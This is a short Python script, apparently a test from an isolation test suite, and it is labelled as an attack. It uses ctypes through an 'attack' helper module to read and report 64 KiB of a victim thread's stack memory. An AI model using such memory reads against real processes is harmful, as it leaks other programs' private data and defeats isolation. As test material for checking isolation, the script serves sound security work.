# reading the stack of a thread that the victim has started
import attack, ctypes
size = 64 << 10
attack.tell("thread_stack", ctypes.string_at(attack.place("thread") - size, size))
